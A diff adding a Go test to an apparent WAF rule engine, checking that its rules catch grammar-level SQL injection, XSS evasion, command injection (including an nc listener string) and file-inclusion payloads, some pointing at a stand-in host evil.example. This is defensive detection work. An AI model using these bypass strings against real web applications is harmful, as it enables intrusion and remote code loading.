@@ -109,3 +109,25 @@ func TestVocabularies(t *testing.T) {
 		}
 	}
 }
+
+// Grammar-level bypass classes: one request per construct, none of them a
+// CRS test string.
+func TestGrammarConstructs(t *testing.T) {
+	cases := map[string][]string{
+		ClassSQLi: {"1 xor 2", "name is not null", "x' and exists (select 1)", "id=2||1", "a != b", "1>=1", "doc->>'k'", `\'and 1`, "x' ! 'y", "select a, case when 1 then 2 end from t", "a from t limit 1"},
+		ClassXSS: {`jav&#x09;ascript:alert(1)`, "j a v a s c r i p t :x", `&#x6a;avascript&colon;x`, `" onfocus=x`, "<svg:svg onload=x>", `<x xmlns:h="http://www.w3.org/1999/xhtml">`,
+			`<a href = " javascript:x">`},
+		ClassRCE: {"x=nc&&$a -nlvp 555", "1;.shell id", "1; . 'system' ls", "!!", "x !-2", "a\r\nHELP me", "a\r\nt1 uid fetch 1:* body", "a&bcdboot/r f",
+			"alias -p ll=ls", "if/i a==b foo", `if "a b" == "a b" echo`, "echo | gcc7.4", "uname$u -a", "kill '-'9"},
+		ClassLFI: {"0x2e0x2e/etc", "%2e%2e%5cwin", "x >/tmp/out", "/get/https://evil.example/", "page=index&u=https://evil.example/shell.txt"},
+	}
+	for class, vs := range cases {
+		p := compileFor(t, class, rules.PlanBusiness, Fields{})
+		for _, v := range vs {
+			rq, _ := wafreplay.PrepareFor(wafreplay.Request{Path: "/s", Query: "q=" + url.QueryEscape(v)}, rules.PlanBusiness)
+			if !p.Eval(rq, nil) {
+				t.Errorf("%s misses %q", class, v)
+			}
+		}
+	}
+}
